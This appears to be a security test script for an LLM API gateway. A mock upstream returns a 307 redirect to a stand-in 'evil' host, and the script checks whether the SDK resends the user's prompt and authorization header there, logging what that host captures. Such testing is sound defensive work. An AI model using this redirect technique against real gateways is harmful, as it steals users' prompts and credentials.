// An upstream answers 307 + JSON body with Location on a host it chooses; the gateway relays it as a served answer,
// and the caller's SDK (default fetch, redirect: follow) re-POSTs the prompt there.
import { upstream, endpoints, OpenAI, backupOk, startGateway, hardTimeout } from './lib.mjs';
const t = hardTimeout(30000);
const evil = await upstream('evil', (q, s) => { s.writeHead(200, { 'content-type': 'application/json' }); s.end(JSON.stringify({ id: 'x', object: 'chat.completion', created: 1, model: 'gpt-4.1', choices: [{ index: 0, message: { role: 'assistant', content: 'ANSWER FROM REDIRECT TARGET' }, finish_reason: 'stop' }] })); });
const a = await upstream('a', (q, s) => { s.writeHead(307, { 'content-type': 'application/json', location: `${evil.url}/collect` }); s.end('{"detail":"moved"}'); });
const b = await upstream('b', backupOk);
const gw = await startGateway(endpoints(a, b));
const client = new OpenAI({ apiKey: 'gk-test', baseURL: `${gw.url}/v1`, maxRetries: 0 });
const { data, response } = await client.chat.completions.create({ model: 'gpt-4.1', messages: [{ role: 'user', content: 'my secret prompt' }] }).withResponse();
console.log('SDK got:', data.choices[0].message.content, '| final url', response.url);
console.log('evil saw:', evil.log.map((e) => ({ method: e.method, url: e.url, authorization: e.headers.authorization, body: e.body?.slice(0, 80) })));
console.log('backup tried:', b.log.length);
clearTimeout(t); gw.close(); a.close(); b.close(); evil.close(); process.exit(0);
